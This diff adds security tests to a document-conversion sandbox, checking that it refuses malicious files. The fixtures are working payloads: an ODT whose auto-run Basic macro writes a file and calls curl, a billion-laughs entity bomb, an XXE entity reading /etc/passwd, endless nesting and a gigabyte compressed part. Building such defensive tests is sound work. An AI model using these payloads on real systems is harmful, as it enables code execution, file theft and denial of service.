@@ -1,4 +1,4 @@
-import { chmodSync, mkdtempSync, rmSync } from "node:fs"
+import { chmodSync, existsSync, mkdtempSync, rmSync } from "node:fs"
 import { createServer, type Server } from "node:http"
 import { tmpdir } from "node:os"
 import { join } from "node:path"
@@ -88,6 +88,35 @@ const refused: readonly (readonly [name: string, kind: "word" | "excel", make: (
   ["flat ODF named docx", "word", (address) => `<?xml version="1.0"?><office:document xmlns:office="o" office:mimetype="application/vnd.oasis.opendocument.text"><draw:image xlink:href="${address}"/></office:document>`],
 ]
 
+/** A text document whose Basic macro runs when it is opened, writes a file and calls home. Source: ODF 1.3 part 3, 14.4.3. */
+function macroDocument(written: string, address: string): Uint8Array {
+  const script = `Sub Main\nOpen &quot;${written}&quot; For Output As #1\nPrint #1, &quot;ran&quot;\nClose #1\nShell(&quot;/usr/bin/curl&quot;, 0, &quot;${address}&quot;, True)\nEnd Sub`
+  const library = (kind: string, body: string): string => `<?xml version="1.0"?><library:${kind} xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink" ${body}</library:${kind}>`
+  const names = ["content.xml", "Basic/script-lc.xml", "Basic/Standard/script-lb.xml", "Basic/Standard/Module1.xml"]
+  const entry = (path: string, type: string): string => `<manifest:file-entry manifest:full-path="${path}" manifest:media-type="${type}"/>`
+  return zipSync({
+    mimetype: [strToU8("application/vnd.oasis.opendocument.text"), { level: 0 }],
+    "content.xml": strToU8(
+      '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>text</text:p></office:text></office:body></office:document-content>',
+    ),
+    "Basic/script-lc.xml": strToU8(library("libraries", '><library:library library:name="Standard" library:link="false"/>')),
+    "Basic/Standard/script-lb.xml": strToU8(library("library", 'library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/>')),
+    "Basic/Standard/Module1.xml": strToU8(`<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">${script}</script:module>`),
+    "META-INF/manifest.xml": strToU8(`<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">${entry("/", "application/vnd.oasis.opendocument.text")}${names.map((name) => entry(name, "text/xml")).join("")}</manifest:manifest>`),
+  })
+}
+
+/** Ten levels of ten: a few hundred bytes that mean a gigabyte. */
+const entityBomb = `<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">${Array.from({ length: 9 }, (_, level) => `<!ENTITY a${level + 1} "${`&a${level};`.repeat(10)}">`).join("")}]>`
+
+/** Documents that are bombs, or that ask the program to read them something. */
+const bombs: readonly (readonly [name: string, make: () => Uint8Array])[] = [
+  ["entities of entities", () => edit(wrapText(new TextEncoder().encode("text")), { "word/document.xml": (xml) => xml.replace("<w:document", `${entityBomb}<w:document`).replace("<w:body>", "<w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p>") })],
+  ["an external entity", () => edit(wrapText(new TextEncoder().encode("text")), { "word/document.xml": (xml) => xml.replace("<w:document", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document').replace("<w:body>", "<w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p>") })],
+  ["nesting without end", () => edit(wrapText(new TextEncoder().encode("text")), { "word/document.xml": (xml) => xml.replace("<w:body>", `<w:body>${"<w:tbl><w:tr><w:tc>".repeat(5000)}${"</w:tc></w:tr></w:tbl>".repeat(5000)}`) })],
+  ["a part of a gigabyte", () => zipSync({ ...unzipSync(wrapText(new TextEncoder().encode("text"))), "word/media/a.xml": [new Uint8Array(1 << 30), { level: 9 }] })],
+]
+
 /** Pixels of the marker in a PDF would come as a 640 by 480 picture. */
 const holdsMarker = (pdf: Uint8Array): boolean => /\/Width 640\b/.test(new TextDecoder("latin1").decode(pdf))
 
@@ -113,6 +142,19 @@ for (const rung of ["bubblewrap", "limits"] satisfies SandboxRung[]) {
         if (made) expect([name, holdsMarker(made.pdf)]).toEqual([name, false])
       }
     })
+
+    it("run no macro", async () => {
+      const written = join(folder, `written-${rung}`)
+      await pool.convert({ bytes: macroDocument(written, `${base}/macro`), kind: "word", extension: "odt", options: {} }).catch((error: { code?: string }) => expect(error.code).toBe("file/damaged"))
+      expect(existsSync(written)).toBe(false)
+      expect(visits).toEqual([])
+    })
+
+    it.each(bombs)("with %s are refused before any program opens them", async (_name, make) => {
+      const begun = performance.now()
+      await expect(pool.convert({ bytes: make(), kind: "word", extension: "docx", options: {} })).rejects.toMatchObject({ code: expect.stringMatching(/^(file\/damaged|limit\/size|type\/unsupported)$/) })
+      expect(performance.now() - begun).toBeLessThan(20_000)
+    }, 60_000)
 
     it("that are web pages or flat XML under office names never reach the office program", async () => {
       for (const [, kind, make] of refused) {
